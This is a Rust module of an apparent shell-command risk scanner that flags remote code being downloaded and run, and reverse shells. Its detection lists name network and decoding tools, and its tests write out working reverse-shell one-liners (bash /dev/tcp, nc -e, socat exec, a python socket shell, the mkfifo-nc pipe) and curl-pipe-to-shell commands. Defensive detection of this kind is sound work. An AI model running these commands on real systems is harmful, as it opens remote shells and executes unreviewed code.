//! The network: downloads run as code (`curl … | sh`, `bash <(curl …)`,
//! `sh -c "$(curl …)"`) and reverse shells (`nc -e /bin/sh`, `/dev/tcp/…`, `socat
//! exec:…`, interpreter one-liners wiring a socket to a shell).

use super::Findings;
use crate::Risk;
use crate::argv::{is_shell, shell_call};
use crate::invocation::{Invocation, RedirectKind};
use crate::word::Word;

/// Programs that fetch content from the network.
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "http",
    "https",
    "xh",
    "lwp-request",
    "GET",
];
/// Programs that open raw network connections.
const NETCATS: &[&str] = &["nc", "ncat", "netcat", "telnet", "socat", "openssl"];
/// Programs that decode obfuscated payloads.
const DECODERS: &[&str] = &[
    "base64", "base32", "xxd", "openssl", "gzip", "gunzip", "zcat", "rev",
];

fn is_downloader(program: &str) -> bool {
    DOWNLOADERS.contains(&program)
}

/// How an interpreter (`python`, `perl`, …) gets its program.
pub(super) struct InterpCall<'a> {
    /// The inline code (`-c`, `-e`, `-r`).
    pub code: Option<&'a Word>,
    /// It reads its program from standard input.
    pub reads_stdin: bool,
}

/// Reads an interpreter's command line; `None` when `program` is not one.
pub(super) fn interp_call<'a>(program: &str, args: &'a [Word]) -> Option<InterpCall<'a>> {
    let is_python = ["python", "pypy"].iter().any(|p| {
        program
            .strip_prefix(p)
            .is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
    });
    let (code_flags, value_flags) = match program {
        _ if is_python => ("c", "WXQ"),
        "perl" => ("eE", "IMmx"),
        "ruby" => ("e", "rIC"),
        "node" | "nodejs" | "bun" => ("ep", "r"),
        "php" => ("r", "cdf"),
        "lua" | "luajit" => ("e", "l"),
        _ => return None,
    };
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let text = arg.text.as_str();
        if text == "-" {
            return Some(InterpCall {
                code: None,
                reads_stdin: true,
            });
        }
        if matches!(text, "--eval" | "--print") {
            return Some(InterpCall {
                code: args.get(i + 1),
                reads_stdin: false,
            });
        }
        if let Some(cluster) = text
            .strip_prefix('-')
            .filter(|c| !c.is_empty() && !c.starts_with('-'))
        {
            // Walk the cluster: `-ne CODE`, `-c CODE`, `-cCODE`, `-rsocket`, `-m mod`.
            for (at, c) in cluster.char_indices() {
                let rest = &cluster[at + c.len_utf8()..];
                if code_flags.contains(c) {
                    let code = if rest.is_empty() {
                        args.get(i + 1)
                    } else {
                        Some(arg)
                    };
                    return Some(InterpCall {
                        code,
                        reads_stdin: false,
                    });
                }
                if is_python && c == 'm' {
                    return Some(InterpCall {
                        code: None,
                        reads_stdin: false,
                    });
                }
                if value_flags.contains(c) {
                    i += usize::from(rest.is_empty());
                    break;
                }
            }
            i += 1;
            continue;
        }
        if text.starts_with("--") {
            i += 1;
            continue;
        }
        // A script file.
        return Some(InterpCall {
            code: None,
            reads_stdin: text == "/dev/stdin",
        });
    }
    Some(InterpCall {
        code: None,
        reads_stdin: true,
    })
}

/// Whether `inv` executes what arrives on its standard input.
fn executes_stdin(inv: &Invocation) -> bool {
    match inv.program() {
        Some(p) if is_shell(p) => shell_call(inv.args()).reads_stdin,
        Some("source" | ".") => inv.args().first().is_some_and(|a| a.is("/dev/stdin")),
        Some(p) => interp_call(p, inv.args()).is_some_and(|c| c.reads_stdin),
        None => false,
    }
}

fn download_exec(inv: &Invocation, how: &str, out: &mut Findings) {
    let (risk, extra) = if inv.sudo {
        (Risk::Critical, " as root")
    } else {
        (Risk::High, "")
    };
    out.add(
        "download-exec",
        risk,
        format!("{how}{extra}: code from the network runs without being read first"),
    );
}

fn fetches(word: &Word) -> bool {
    word.subst_programs.iter().any(|p| is_downloader(p))
}

pub(super) fn check(inv: &Invocation, out: &mut Findings) {
    for redirect in &inv.redirects {
        let text = redirect.target.text.as_str();
        if text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/") {
            out.add(
                "reverse-shell",
                Risk::Critical,
                format!("a redirection opens the network connection `{text}`, the core of a reverse shell"),
            );
        }
        if redirect.kind == RedirectKind::Read && fetches(&redirect.target) && executes_stdin(inv) {
            download_exec(inv, "a download is fed to an interpreter", out);
        }
    }
    let Some(program) = inv.program() else {
        if inv.argv.first().is_some_and(fetches) {
            download_exec(inv, "the output of a download is run as a command", out);
        }
        return;
    };
    let args = inv.args();
    if is_shell(program) {
        let call = shell_call(args);
        if call.script.is_some_and(fetches) || call.file.is_some_and(fetches) {
            download_exec(
                inv,
                &format!("`{program}` runs a script straight from a download"),
                out,
            );
        }
    }
    if matches!(program, "source" | "." | "eval") && args.iter().any(fetches) {
        download_exec(inv, &format!("`{program}` runs a download"), out);
    }
    exec_over_network(program, args, out);
    if let Some(code) = interp_call(program, args).and_then(|call| call.code) {
        if fetches(code) {
            download_exec(
                inv,
                &format!("`{program}` runs code straight from a download"),
                out,
            );
        }
        if is_socket_shell(&code.text) {
            out.add(
                "reverse-shell",
                Risk::Critical,
                format!("the `{program}` one-liner connects a socket to a shell or process"),
            );
        }
    }
}

/// `nc -e`, `ncat --exec`, `socat … exec:`: a program wired to a network peer.
fn exec_over_network(program: &str, args: &[Word], out: &mut Findings) {
    match program {
        "nc" | "ncat" | "netcat" => {
            let exec = args.iter().any(|a| {
                matches!(a.text.as_str(), "--exec" | "--sh-exec" | "--lua-exec")
                    || (a.text.starts_with('-')
                        && !a.text.starts_with("--")
                        && a.text.contains(['e', 'c']))
            });
            if exec {
                out.add(
                    "reverse-shell",
                    Risk::Critical,
                    format!("`{program} -e` hands a program's input and output to a network peer"),
                );
            }
        }
        "socat" => {
            let exec = args.iter().any(|a| {
                let lower = a.text.to_ascii_lowercase();
                lower.starts_with("exec:") || lower.starts_with("system:")
            });
            if exec {
                out.add(
                    "reverse-shell",
                    Risk::Critical,
                    "`socat` with `exec:`/`system:` connects a program to the network",
                );
            }
        }
        _ => {}
    }
}

/// Code that opens a socket and runs a shell or process over it.
fn is_socket_shell(code: &str) -> bool {
    const SOCKETS: &[&str] = &[
        "socket",
        "TCPSocket",
        "fsockopen",
        "net.connect",
        "net.Socket",
        "/dev/tcp",
    ];
    const EXECS: &[&str] = &[
        "subprocess",
        "pty.spawn",
        "os.dup2",
        "exec",
        "spawn",
        "system(",
        "popen",
        "/bin/sh",
        "/bin/bash",
        "proc_open",
        "passthru",
    ];
    SOCKETS.iter().any(|s| code.contains(s)) && EXECS.iter().any(|e| code.contains(e))
}

/// Rules about several invocations: what a pipeline feeds into an interpreter, named
/// pipes wired to `nc`.
pub(super) fn check_script(all: &[Invocation], out: &mut Findings) {
    pipelines_into_interpreters(all, out);
    download_then_run(all, out);
    let fifo = all.iter().any(|inv| {
        inv.program() == Some("mkfifo")
            || (inv.program() == Some("mknod") && inv.args().iter().any(|a| a.is("p")))
    });
    let network = all
        .iter()
        .any(|inv| inv.program().is_some_and(|p| NETCATS.contains(&p)));
    if fifo && network {
        out.add(
            "reverse-shell",
            Risk::Critical,
            "a named pipe wired to a network tool is the classic `mkfifo … nc` reverse shell",
        );
    }
}

/// `curl … | sh`, `nc … | bash`, `base64 -d | sh`.
fn pipelines_into_interpreters(all: &[Invocation], out: &mut Findings) {
    for producer in all {
        let Some(program) = producer.program() else {
            continue;
        };
        let downloader = is_downloader(program);
        let netcat = NETCATS.contains(&program);
        let decoder = DECODERS.contains(&program)
            && producer.args().iter().any(|a| is_decode_flag(program, a));
        if !(downloader || netcat || decoder) {
            continue;
        }
        for pos in &producer.pipes {
            for consumer in all
                .iter()
                .filter(|c| c.in_pipe_after(pos.id, pos.stage) && executes_stdin(c))
            {
                let name = consumer.program().unwrap_or("?");
                if downloader {
                    download_exec(
                        consumer,
                        &format!("`{program}` output is piped into `{name}`"),
                        out,
                    );
                } else if netcat {
                    out.add(
                        "reverse-shell",
                        Risk::Critical,
                        format!("network input from `{program}` is piped into `{name}`"),
                    );
                } else {
                    out.add(
                        "obfuscated-exec",
                        Risk::High,
                        format!(
                            "decoded `{program}` output is piped into `{name}`, hiding what runs"
                        ),
                    );
                }
            }
        }
    }
}

/// `curl -o x.sh URL && sh x.sh`, `wget URL/setup.sh; chmod +x setup.sh; ./setup.sh`.
fn download_then_run(all: &[Invocation], out: &mut Findings) {
    let files: Vec<String> = all.iter().flat_map(downloaded_files).collect();
    if files.is_empty() {
        return;
    }
    let named = |word: &Word| files.iter().any(|f| *f == base_name(&word.text));
    for inv in all {
        let runs = match inv.program() {
            Some(p) if is_shell(p) => shell_call(inv.args()).file.is_some_and(named),
            // `python3 x.py`: an interpreter running the downloaded script.
            Some(p) if interp_call(p, &[]).is_some() => inv
                .args()
                .iter()
                .find(|a| !a.text.starts_with('-'))
                .is_some_and(named),
            Some("source" | ".") => inv.args().first().is_some_and(named),
            Some(_) => inv
                .argv
                .first()
                .is_some_and(|w| w.text.contains('/') && named(w)),
            None => false,
        };
        if runs {
            download_exec(
                inv,
                "a downloaded file is run right after the download",
                out,
            );
        }
    }
}

fn base_name(path: &str) -> String {
    let path = path.split(['?', '#']).next().unwrap_or(path);
    path.rsplit('/').next().unwrap_or(path).to_owned()
}

/// Files `curl`/`wget` write: `-o FILE`, `-O FILE` (wget) or the URL's last segment.
fn downloaded_files(inv: &Invocation) -> Vec<String> {
    let (output_flag, remote_flag) = match inv.program() {
        Some("curl") => ('o', Some('O')),
        Some("wget") => ('O', None),
        _ => return Vec::new(),
    };
    let args = inv.args();
    // Every file named by an output option, `-` (standard output) included.
    let mut files = Vec::new();
    let mut remote_name = remote_flag.is_none();
    for (i, arg) in args.iter().enumerate() {
        let text = arg.text.as_str();
        let next = || args.get(i + 1).map(|f| base_name(&f.text));
        if let Some(file) = text
            .strip_prefix("--output=")
            .or(text.strip_prefix("--output-document="))
        {
            files.push(base_name(file));
        } else if matches!(text, "--output" | "--output-document") {
            files.extend(next());
        } else if text == "--remote-name" {
            remote_name = true;
        } else if let Some(cluster) = text.strip_prefix('-').filter(|c| !c.starts_with('-')) {
            if let Some((_, attached)) = cluster.split_once(output_flag) {
                files.extend(if attached.is_empty() {
                    next()
                } else {
                    Some(base_name(attached))
                });
            }
            remote_name |= remote_flag.is_some_and(|flag| cluster.contains(flag));
        }
    }
    if remote_name && files.is_empty() {
        let urls = args.iter().filter(|a| a.text.contains("://"));
        files.extend(
            urls.map(|url| base_name(&url.text))
                .filter(|name| !name.is_empty()),
        );
    }
    files.retain(|f| f != "-");
    files
}

fn is_decode_flag(program: &str, arg: &Word) -> bool {
    match program {
        "base64" | "base32" => matches!(arg.text.as_str(), "-d" | "--decode" | "-D"),
        "xxd" => arg.text.starts_with('-') && arg.text.contains('r'),
        "openssl" => arg.text == "-d" || arg.text == "base64",
        "gzip" => arg.text == "-d" || arg.text == "-dc",
        "gunzip" | "zcat" | "rev" => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use crate::Risk;
    use crate::rules::test_risk as risk;

    #[test]
    fn downloads_run_as_code_are_high() {
        for source in [
            "curl -fsSL https://x.sh | sh",
            "wget -O- https://x | bash",
            "curl x | python3",
            "bash <(curl -s x)",
            "sh -c \"$(curl -fsSL x)\"",
            "eval \"$(wget -qO- x)\"",
            "curl x | tee log | bash -s -- --flag",
            "source <(curl x)",
        ] {
            assert_eq!(risk(source), Risk::High, "{source}");
        }
    }

    #[test]
    fn downloads_run_as_root_are_critical() {
        assert_eq!(risk("curl x | sudo bash"), Risk::Critical);
        assert_eq!(risk("wget -qO- x | sudo -E sh -"), Risk::Critical);
    }

    #[test]
    fn downloads_that_are_not_executed_are_safe() {
        for source in [
            "curl -O https://x/file.tar.gz",
            "wget https://x/setup.sh && less setup.sh",
            "curl x | jq .",
            "curl x | python3 -m json.tool",
            "wget x -O out.html",
            "curl x | grep y",
        ] {
            assert_eq!(risk(source), Risk::Safe, "{source}");
        }
    }

    #[test]
    fn reverse_shells_are_critical() {
        for source in [
            "nc -e /bin/sh 10.0.0.1 4444",
            "ncat --exec /bin/bash 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "socat tcp:10.0.0.1:4444 exec:/bin/sh,pty",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
            "telnet h 1 | /bin/sh | telnet h 2",
        ] {
            assert_eq!(risk(source), Risk::Critical, "{source}");
        }
        assert_eq!(risk("nc -zv host 22"), Risk::Safe);
    }

    #[test]
    fn decoded_payloads_piped_to_a_shell_are_high() {
        assert_eq!(risk("echo ZWNobyBoaQ== | base64 -d | sh"), Risk::High);
    }

    #[test]
    fn running_a_file_right_after_downloading_it_is_high() {
        for source in [
            "curl -fsSLo install.sh https://x/install.sh && sh install.sh",
            "wget https://x/setup.sh; chmod +x setup.sh; ./setup.sh",
            "curl -O https://x/run.sh && bash ./run.sh",
            "wget -O /tmp/i.sh https://x && . /tmp/i.sh",
            "curl -o x.py https://x/x.py && python3 x.py",
            "wget https://x/tool.pl && perl -w tool.pl",
        ] {
            assert_eq!(risk(source), Risk::High, "{source}");
        }
        assert_eq!(
            risk("wget -qO- https://x/a.sh > a.sh; cat a.sh"),
            Risk::Safe
        );
        assert_eq!(
            risk("curl -o data.json https://x/data.json && python3 parse.py data.json"),
            Risk::Safe
        );
    }
}
